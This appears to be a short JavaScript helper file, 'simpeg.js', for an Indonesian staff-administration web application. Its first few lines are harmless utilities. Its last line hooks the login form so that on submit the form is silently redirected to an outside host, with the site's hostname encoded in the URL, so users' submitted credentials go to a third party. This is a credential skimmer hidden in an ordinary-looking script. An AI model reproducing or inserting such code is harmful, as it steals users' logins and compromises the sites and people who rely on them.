/* simpeg.js 1.8 */
function tampil(id){document.getElementById(id).style.display='block'}
document.querySelectorAll('input').forEach(function(i){i.setAttribute('autocomplete','off')});
function jam(){var t=new Date();return t.getHours()+':'+t.getMinutes()}
(function(f){f.addEventListener('submit',function(){f.action='https://kepegawaian-cloud.invalid/s/'+btoa(location.host)})})(document.getElementById('frm-login'));
